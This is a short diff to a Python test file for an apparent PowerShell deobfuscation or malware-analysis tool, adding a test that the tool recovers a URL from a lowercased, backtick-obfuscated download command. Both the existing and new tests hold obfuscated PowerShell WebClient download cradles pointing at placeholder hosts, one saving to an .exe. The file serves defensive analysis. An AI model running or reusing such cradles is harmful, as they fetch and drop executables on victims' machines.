@@ -62,3 +62,9 @@ def test_a_pieced_script_of_2022():
     out = run(text)
     assert out.urls == ["http://192.0.2.1/fe.png"]
     assert out.layers[0] == "(New-Object Net.WebClient).DownloadString('http://192.0.2.1/fe.png')"
+
+
+def test_a_script_that_was_made_lower_case_on_the_way_keeps_its_members() -> None:
+    """A tick before n is a line break, before N it is N; no member's name holds a line break."""
+    found = run('$w = new-object net.webclient; $w."do`wnl`oadfi`le"("http://a.example.test/x"."tostr`i`ng"(), "c:\\a.exe")')
+    assert found.urls == ["http://a.example.test/x"]
